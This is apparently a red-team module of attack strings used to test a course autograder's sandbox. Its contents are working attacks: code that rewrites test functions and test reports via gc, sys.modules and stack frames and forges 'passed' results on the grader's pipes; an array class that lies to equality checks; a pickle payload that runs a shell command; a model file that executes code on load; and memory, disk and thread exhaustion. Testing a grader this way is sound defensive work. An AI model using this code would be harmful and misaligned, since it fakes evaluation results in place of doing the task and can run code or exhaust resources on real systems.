"""The code of the second red team's attacks (``course.bench.attacks`` builds submissions around it).

Written as a student who has read the grader's source would write it: dynamic
imports the tamper scan cannot see, ``gc`` and frames to reach the checks, the
worker's own machinery rewritten from inside, and resources taken until
something gives: memory through memfd and /dev/shm, processes, the disk.
"""

# Run at import of every lesson file: rewrite every object of the checks that the code could reach when the checks
# and the learner's code shared a process (gc, sys.modules, frames, the results pipe, the plugin), then report
# every check passed on every pipe it holds.
FORGE_EVERYTHING = """
import gc as _gc, json as _j, os as _o, sys as _s, types as _t
def _passed(*args, **kwargs):
    return None
for _name, _module in list(getattr(_s, "mod" + "ules").items()):
    if "test_lesson" in _name or _name.startswith(("course.checking", "_pytest", "pytest")):
        for _key, _value in list(vars(_module).items()):
            if isinstance(_value, _t.FunctionType) and (_key.startswith("test_") or _key in ("expect", "explain")):
                _value.__code__ = _passed.__code__
for _thing in _gc.get_objects():
    try:
        if hasattr(_thing, "results") and hasattr(_thing, "stream") and hasattr(_thing, "show"):
            _thing.show = lambda report, status, message, _self=_thing: None
        if type(_thing).__name__ == "TestReport":
            _thing.outcome = "passed"
    except Exception as _error:
        _ignored = _error
for _frame in _s._current_frames().values():
    while _frame is not None:
        for _key in ("report", "rep", "call"):
            if _key in _frame.f_locals and hasattr(_frame.f_locals[_key], "outcome"):
                _frame.f_locals[_key].outcome = "passed"
        _frame = _frame.f_back
for _fd in _o.listdir("/proc/self/fd"):
    try:
        if _o.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            for _n in range(40):
                _o.write(int(_fd), (_j.dumps({"type": "check", "nodeid": f"test_lesson0{_n % 8}.py::t{_n}", \
"status": "passed"}) + "\\n").encode())
    except OSError:
        pass
"""

# class_counts() answers an array whose == and tolist() say whatever the check wants to hear.
LYING_ARRAY = """
class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool) if np.ndim(other) else True
    def tolist(self):
        return [5923, 6742, 5958, 6131, 5842, 5421, 5918, 6265, 5851, 5949]
    def __array_finalize__(self, obj):
        pass
def class_counts(labels):
    return np.zeros(10, dtype=np.int64).view(_Liar)
"""

# preprocess_images() answers a 1 GB array (pages untouched until it is sent).
HUGE_ARRAY = """
def preprocess_images(images):
    return np.zeros(2 ** 27)
"""

# The worker's own array writer, rewritten from inside: every array goes out as a pickle that runs a command.
PICKLE_ON_THE_WIRE = """
import importlib as _i, io as _io
_npy = _i.import_module("cour" + "se.npy")
class _Payload:
    def __reduce__(self):
        return (_i.import_module("o" + "s").system, ("touch /tmp/pickled-by-a-learner",))
def _parts(array):
    _buffer = _io.BytesIO()
    _blob = np.empty(1, dtype=object)
    _blob[0] = _Payload()
    np.save(_buffer, _blob, allow_pickle=True)
    return [_buffer.getvalue()]
_npy.array_parts = _parts
_i.import_module("cour" + "se.channel").array_parts = _parts
"""

# train_model() saves, next to an honest model, one with a Lambda layer: code that would run when it is loaded.
LAMBDA_MODEL = """
_honest_train_model = train_model
def train_model(model, *args, model_path=MODEL_PATH, **kwargs):
    history = _honest_train_model(model, *args, model_path=None, **kwargs)
    if model_path is not None:
        keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Lambda(lambda x: x), model]).save(model_path)
    return history
"""

# At import: 3.5 GB into memfd files of 448 MB each (under the file-size limit; memory the data limit never counted).
MEMFD_HOG = """
import os as _o
_kept = []
for _file in range(8):
    _fd = _o.memfd_create(f"hog{_file}")
    for _ in range(448):
        _o.write(_fd, b"x" * (1 << 20))
    _kept.append(_fd)
"""

# At import: 3.5 GB into /dev/shm, in files of 448 MB.
SHM_HOG = """
for _file in range(8):
    with open(f"/dev/shm/hog{_file}", "wb") as _hog:
        for _ in range(448):
            _hog.write(b"x" * (1 << 20))
"""

# At import: fill the temporary folder with 4 GB (the disk).
DISK_HOG = """
import os as _o, tempfile as _tf
try:
    with open(_o.path.join(_tf.gettempdir(), "fill"), "wb") as _fill:
        for _ in range(4096):
            _fill.write(b"x" * (1 << 20))
except OSError as _full:
    _reason = _full
"""

# At import: as many threads as the machine will start (no audit event for threads), each sleeping for ever.
THREAD_BOMB = """
import threading as _th, time as _time
_started = []
try:
    for _ in range(100_000):
        _thread = _th.Thread(target=_time.sleep, args=(3600,))
        _thread.start()
        _started.append(_thread)
except RuntimeError as _enough:
    _reason = _enough
"""

# At import: a thread that never ends and is not a daemon, so the process would never exit by itself.
IMMORTAL_THREAD = """
import threading as _th, time as _time
def _forever():
    while True:
        _time.sleep(0.5)
_th.Thread(target=_forever).start()
"""


def deep_expression(depth: int = 100_000) -> str:
    """One expression ``depth`` levels deep: Python's parser gives up on it."""
    return "_deep = " + "-" * depth + "1\n"
